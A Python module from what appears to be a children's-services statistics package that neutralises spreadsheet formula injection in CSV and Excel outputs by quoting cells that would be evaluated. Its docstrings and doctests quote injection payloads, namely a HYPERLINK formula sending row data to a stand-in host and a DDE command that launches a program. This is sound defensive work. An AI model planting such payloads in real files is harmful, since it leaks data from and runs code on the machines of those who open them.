"""Safe cells: text that a spreadsheet would evaluate, neutralised in everything lacstats writes.

Returns, SSDA903 extracts and study files are written by other people; lacstats echoes
their cells, column and sheet names back in issues lists, validation reports and packs that
are opened in Excel or LibreOffice. A cell whose text begins with ``=``, ``+``, ``-`` or
``@`` (or their full-width forms), a tab, a carriage return or a line feed is evaluated as a
formula when a spreadsheet opens the file: ``=HYPERLINK("http://evil.example/?"&A2, "Click
to fix")`` leaks the row it sits in, ``=cmd|' /C calc'!A0`` runs a program (OWASP, "CSV
Injection"). Every writer passes its cells through :func:`safe_value` (or a whole frame
through :func:`safe_frame`), which

- leaves numbers, booleans, dates and blanks as they are (a negative number stays a
  number; text that is a plain number, ``-40.0``, is shown as written);
- prefixes any other text that a spreadsheet would evaluate with a single quote, the
  OWASP mitigation: ``'=HYPERLINK(...)`` is shown as text and never run;
- cuts text longer than ``limit`` characters, saying how long it was (an issues list names
  the cell; it need not copy a 200 MB string).

Workbooks are saved through :func:`workbook_bytes`, which stores every text cell as a typed
string (openpyxl stores any text beginning with ``=`` as a formula), refuses a formula
anywhere, and fixes the timestamps so the same content gives the same bytes.

This module only builds bytes and text; files are written by :mod:`lacstats.outputs` (and
:mod:`lacstats.ssda903` may use it for its report).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Mapping
from typing import Any

import numpy as np
import pandas as pd

__all__ = [
    "EPOCH",
    "FORMULA_STARTS",
    "MAX_CELL",
    "MAX_ECHO",
    "csv_text",
    "is_formula",
    "safe_frame",
    "safe_text",
    "safe_value",
    "workbook_bytes",
    "xlsx_bytes",
]

#: Characters that make a spreadsheet evaluate a cell when they begin it (OWASP, "CSV
#: Injection": = + - @, tab, carriage return; line feed and the full-width forms too).
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
#: The length at which an echoed value (a cell of someone's return) is cut.
MAX_ECHO = 200
#: Excel's limit on the text of one cell.
MAX_CELL = 32_767
#: The creation and modification time written into every workbook lacstats makes.
EPOCH = dt.datetime(2020, 1, 1)

_NUMBER = re.compile(r"[+-]?(\d[\d,]*\.?\d*|\.\d+)([eE][+-]?\d+)?%?")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # openpyxl's ILLEGAL_CHARACTERS_RE
_MODIFIED = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)")


def is_formula(text: Any) -> bool:
    """Whether a spreadsheet would evaluate ``text`` (it is text whose first character, or
    first after spaces, is in :data:`FORMULA_STARTS`, and it is not a plain number).

    Examples
    --------
    >>> from lacstats.cells import is_formula
    >>> is_formula('=HYPERLINK("http://evil.example","fix")'), is_formula("  @SUM(A1)")
    (True, True)
    >>> is_formula("-40.0"), is_formula(-40.0), is_formula("foster_ifa")
    (False, False, False)
    """
    if not isinstance(text, str) or not text:
        return False
    if text[0] in FORMULA_STARTS:
        return _NUMBER.fullmatch(text) is None
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_STARTS and not _NUMBER.fullmatch(stripped)


def safe_text(text: str, *, limit: int | None = MAX_ECHO) -> str:
    """``text`` cut to ``limit`` characters (saying how long it was) and, if a spreadsheet
    would evaluate it, prefixed with a single quote; a carriage return becomes a line feed
    (so a CSV writer quotes the cell and no row starts inside it); control characters that
    a workbook cannot hold are shown as U+FFFD.

    Examples
    --------
    >>> from lacstats.cells import safe_text
    >>> safe_text("=cmd|' /C calc'!A0")
    "'=cmd|' /C calc'!A0"
    >>> safe_text("x" * 300, limit=10)
    'xxxxxxxxxx… (300 characters)'
    >>> safe_text("-12.5"), safe_text("Kent")
    ('-12.5', 'Kent')
    """
    # a carriage return is a line break (a CSV writer ending lines with \n would not quote
    # it, and a spreadsheet would start a row at it); control characters a workbook cannot
    # hold (a CSV return may) shown as U+FFFD
    text = _CONTROL.sub("\ufffd", str(text).replace("\r\n", "\n").replace("\r", "\n"))
    if limit is not None and len(text) > limit:
        text = f"{text[:limit]}… ({len(text):,} characters)"
    if len(text) > MAX_CELL - 1:  # Excel's own limit, whatever ``limit`` says
        text = f"{text[: MAX_CELL - 40]}… ({len(text):,} characters)"
    return f"'{text}" if is_formula(text) else text


def safe_value(value: Any, *, limit: int | None = None) -> Any:
    """A cell as it may be written: numbers, booleans, dates and blanks unchanged, text
    through :func:`safe_text`, anything else as its (safe) text.

    Examples
    --------
    >>> from lacstats.cells import safe_value
    >>> safe_value(-3), safe_value(None), safe_value("+44 1234")
    (-3, None, "'+44 1234")
    """
    if value is None or isinstance(value, bool | np.bool_ | int | float | np.number):
        return value
    if isinstance(value, dt.date | dt.time | pd.Timestamp | np.datetime64 | pd.Timedelta):
        return value
    if value is pd.NA or value is pd.NaT:
        return value
    return safe_text(value if isinstance(value, str) else str(value), limit=limit)


def safe_frame(frame: pd.DataFrame, *, limit: int | None = None) -> pd.DataFrame:
    """``frame`` with every text cell, column name and index label through
    :func:`safe_value`; numeric columns are left as they are (a copy is returned).
    Columns: those of ``frame``, their names made safe.

    Examples
    --------
    >>> import pandas as pd
    >>> from lacstats.cells import safe_frame
    >>> safe_frame(pd.DataFrame({"=1+1": ["@SUM(A1)", "ok"], "n": [-1, 2]}))
        '=1+1  n
    0  '@SUM(A1) -1
    1         ok  2
    """
    out = frame.copy()
    for position, dtype in enumerate(out.dtypes):
        if dtype == object or isinstance(dtype, pd.StringDtype | pd.CategoricalDtype):
            column = out.iloc[:, position].astype(object)
            out.isetitem(position, column.map(lambda v: safe_value(v, limit=limit)))
    out.columns = _safe_index(out.columns, limit)
    out.index = _safe_index(out.index, limit)
    return out


def _safe_index(index: pd.Index, limit: int | None) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return pd.MultiIndex.from_tuples(
            [tuple(safe_value(v, limit=limit) for v in entry) for entry in index],
            names=[safe_value(n, limit=limit) for n in index.names],
        )
    if index.dtype.kind in "iufb" or isinstance(index, pd.RangeIndex):
        return index
    return pd.Index(
        [safe_value(v, limit=limit) for v in index],
        name=safe_value(index.name, limit=limit),
        dtype=object,
    )


def csv_text(frame: pd.DataFrame, *, index: bool = False, limit: int | None = None) -> str:
    """``frame`` as CSV text (``\\n`` line endings), its cells made safe first.

    Examples
    --------
    >>> import pandas as pd
    >>> from lacstats.cells import csv_text
    >>> print(csv_text(pd.DataFrame({"value": ["=2+5", "-7"]})), end="")
    value
    '=2+5
    -7
    """
    return safe_frame(frame, limit=limit).to_csv(index=index, lineterminator="\n")


def safe_book(book) -> None:
    """Every cell of an openpyxl workbook made safe in place: text through
    :func:`safe_text` (no length limit beyond Excel's) and stored as a typed string; a
    formula is never left in a cell; control characters that XML cannot hold are shown as
    U+FFFD."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str):
                    cell.value = safe_text(value, limit=None)
                    cell.data_type = "s"
                elif cell.data_type == "f":  # pragma: no cover - openpyxl formula objects
                    cell.value = safe_text(str(value), limit=None)
                    cell.data_type = "s"


def workbook_bytes(book) -> bytes:
    """An openpyxl workbook made safe (:func:`safe_book`) and saved to bytes with fixed
    timestamps, so the same content gives the same bytes.

    Examples
    --------
    >>> import io
    >>> from openpyxl import Workbook, load_workbook
    >>> from lacstats.cells import workbook_bytes
    >>> book = Workbook()
    >>> book.active["A1"] = '=HYPERLINK("http://evil.example","fix")'
    >>> cell = load_workbook(io.BytesIO(workbook_bytes(book))).active["A1"]
    >>> cell.data_type, cell.value
    ('s', '\\'=HYPERLINK("http://evil.example","fix")')
    """
    safe_book(book)
    book.properties.creator = "lacstats"
    book.properties.created = EPOCH
    book.properties.modified = EPOCH
    buffer = io.BytesIO()
    book.save(buffer)
    out = io.BytesIO()
    stamp = EPOCH.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    with (
        zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename == "docProps/core.xml":
                data = _MODIFIED.sub(rb"\g<1>" + stamp + rb"\g<2>", data)
            info = zipfile.ZipInfo(entry.filename, date_time=EPOCH.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            target.writestr(info, data)
    return out.getvalue()


def sheet_title(name: str) -> str:
    """A name Excel accepts for a sheet: at most 31 characters, none of ``[]:*?/\\``, not
    beginning or ending with a quote.

    Examples
    --------
    >>> from lacstats.cells import sheet_title
    >>> sheet_title("commissioning cohorts (weekly cost)")
    'commissioning cohorts (weekly c'
    """
    cleaned = re.sub(r"[\[\]:*?/\\]", "_", str(name)).strip("'")[:31]
    return cleaned or "sheet"


def xlsx_bytes(
    sheets: Mapping[str, pd.DataFrame],
    *,
    index: bool | Mapping[str, bool] = False,
    limit: int | None = MAX_ECHO * 5,
    thousands: bool = False,
) -> bytes:
    """A workbook of ``sheets`` (title -> frame), every cell safe and text cut to ``limit``
    characters, as bytes with fixed timestamps (:func:`workbook_bytes`). ``index`` writes
    the frames' index (for all, or by title); ``thousands`` shows numbers with thousands
    separators (``1,253``; they stay numbers). The one call for a report that echoes other
    people's cells (an SSDA903 validation report, an issues list, a pack).

    Examples
    --------
    >>> import io
    >>> import pandas as pd
    >>> from openpyxl import load_workbook
    >>> from lacstats.cells import xlsx_bytes
    >>> data = xlsx_bytes({"problems": pd.DataFrame({"value": ["=1+1", -2.5]})})
    >>> [c.value for c in load_workbook(io.BytesIO(data))["problems"]["A"]]
    ['value', "'=1+1", -2.5]
    """
    from openpyxl import load_workbook

    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for title, frame in sheets.items():
            with_index = index.get(title, False) if isinstance(index, Mapping) else index
            safe = safe_frame(frame, limit=limit)
            safe.to_excel(writer, sheet_name=sheet_title(title), index=with_index)
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    if thousands:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                        whole = float(cell.value).is_integer()
                        cell.number_format = "#,##0" if whole else "#,##0.0##"
    return workbook_bytes(book)
